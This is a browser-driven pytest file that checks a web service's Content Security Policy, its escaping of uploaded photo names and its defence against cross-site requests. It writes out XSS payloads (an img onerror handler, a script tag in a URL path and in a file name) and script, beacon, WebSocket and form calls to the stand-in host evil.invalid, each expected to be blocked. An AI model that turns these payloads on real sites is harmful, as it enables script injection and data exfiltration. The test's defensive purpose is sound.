"""The page in a real browser: its policy holds, and the name of a photo never becomes markup."""

import pytest
from served import web

# Each tries to run something, or to reach another host; the policy should forbid them all.
ATTEMPTS = """async (expected) => {
  const broken = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    broken.push(event.effectiveDirective);
  });
  const add = (name, change) => {
    const one = document.createElement(name);
    change(one);
    document.body.append(one);
  };
  add('script', (one) => { one.textContent = 'window.pwned = 1'; });
  add('script', (one) => { one.src = 'https://evil.invalid/x.js'; });
  add('script', (one) => { one.src = 'data:text/javascript,window.pwned=1'; });
  add('div', (one) => {
    one.innerHTML = '<img src=x:y onerror="window.pwned = 1"><b style="color:red">x</b>';
  });
  add('img', (one) => { one.src = 'https://evil.invalid/pixel.gif'; });
  add('iframe', (one) => { one.src = 'https://evil.invalid/'; });
  add('object', (one) => { one.data = 'https://evil.invalid/'; });
  add('link', (one) => { one.rel = 'stylesheet'; one.href = 'https://evil.invalid/x.css'; });
  add('base', (one) => { one.href = 'https://evil.invalid/'; });
  add('form', (one) => { one.action = 'https://evil.invalid/'; setTimeout(() => one.submit()); });
  setTimeout(() => {  // a timer, because the debugger's own code may do so
    try { new Function('window.pwned = 1')(); } catch { broken.push('function'); }
  });
  for (const tried of [() => fetch('https://evil.invalid/'), () => new WebSocket('wss://evil.invalid/'),
                       () => new Worker('data:text/javascript,1')]) {
    try { await tried(); } catch { /* as it should be */ }
  }
  navigator.sendBeacon('https://evil.invalid/', 'x');
  const until = performance.now() + 20_000;  // a busy browser tells late
  while (performance.now() < until && !expected.every((one) => broken.includes(one)))
    await new Promise((done) => setTimeout(done, 20));
  return {
    broken: [...new Set(broken)].sort(), pwned: 'pwned' in window,
    base: document.baseURI, here: location.href,
  };
}"""
MUST_BREAK = {
    "base-uri",
    "connect-src",
    "form-action",
    "frame-src",
    "function",
    "img-src",
    "object-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-attr",
    "style-src-elem",
}


@pytest.fixture
def page(contexts, server):
    """An empty page, in the browser of visitors of the server."""
    shared = contexts(server.url)
    yield shared.context.new_page()
    shared.forget()


@pytest.mark.parametrize("path", ["/", "/docs"])
def test_the_policy_holds_in_the_browser(page, server, path):
    page.goto(server.url + path)
    found = page.evaluate(ATTEMPTS, sorted(MUST_BREAK))
    assert not found["pwned"] and set(found["broken"]) >= MUST_BREAK, set(MUST_BREAK) - set(
        found["broken"]
    )
    assert found["here"] == server.url + path and found["base"].startswith(server.url)


def test_answers_of_the_api_run_nothing_when_they_are_opened(page, server):
    answer = page.goto(server.url + "/nothing/<script>window.pwned=1</script>")
    assert answer.status == 404 and not page.evaluate("'pwned' in window")
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")


def test_the_name_of_a_photo_is_text_and_nothing_else(page, server, astronaut):
    page.goto(server.url)
    name = "<img src=x onerror=window.pwned=1>\"'.jpg"
    page.set_input_files(
        "input[type=file]",
        {"name": name, "mimeType": "image/jpeg", "buffer": astronaut.read_bytes()},
    )
    page.wait_for_selector("#result:not([hidden]), canvas", timeout=60_000)
    assert not page.evaluate("'pwned' in window") and page.locator("img[src='x']").count() == 0


def test_a_page_of_another_site_cannot_use_a_service_on_this_machine(page, server):
    """Its form is refused, its script cannot read, and the page cannot be framed."""
    page.route(
        "https://evil.invalid/**",
        lambda route: route.fulfill(content_type="text/html", body="<p>evil</p>"),
    )
    page.goto("https://evil.invalid/")
    found = page.evaluate(
        """async (url) => {
      const said = {};
      try { await fetch(url + '/models'); said.read = true; } catch { said.read = false; }
      try {
        await fetch(url + '/v1/jobs', {method: 'DELETE'});
        said.del = true;
      } catch { said.del = false; }
      const form = new FormData();
      form.append('image', new Blob(['x']), 'x.jpg');
      try {
        await fetch(url + '/v1/jobs', {method: 'POST', mode: 'no-cors', body: form});
      } catch { /* blocked sooner */ }
      return said;
    }""",
        server.url,
    )
    assert found == {"read": False, "del": False}
    assert web.get(server.url + "/v1/jobs").json()["jobs"] == [], "its form made no job"
